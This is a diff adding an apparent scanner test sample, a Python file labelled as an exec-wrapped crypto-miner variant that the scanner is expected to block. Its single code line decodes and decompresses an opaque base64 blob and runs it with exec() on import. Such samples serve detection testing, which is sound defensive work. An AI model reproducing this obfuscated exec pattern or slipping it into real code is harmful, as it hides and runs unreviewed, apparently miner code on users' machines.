@@ -1,0 +1,3 @@
+# expect: BLOCKED category: miner variant-of: risky/miner/cpuminer_subprocess.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxFj01Pg0AURff8ism40agQlSo0caEpqWlpYlCgYFyM04FO7Xx0PiqdX29BjW9xkndzk/fOCcgs1wBLyygnCqAWUa4NQEAbhYxlQAqx9T3KpFAGaPshlcBEa88rH9I0eQX3AIYRWTVP9q6I6yisnFug2ya3RCRpHdfZchcXxJSumrq5GV0v81G337Wu4pN5nGc8E7PF59Um4ulXUmj0Us7CZr3KDzXdPE5zisUEev9n/WchCT99g37w9zO8APAS9cTqII3gtF2bIRQ9fz3ODZbjIOiY8gcj0iEmt2R8c5yhbI/8Ueo32WcdfD/7BsJEXl4=')))
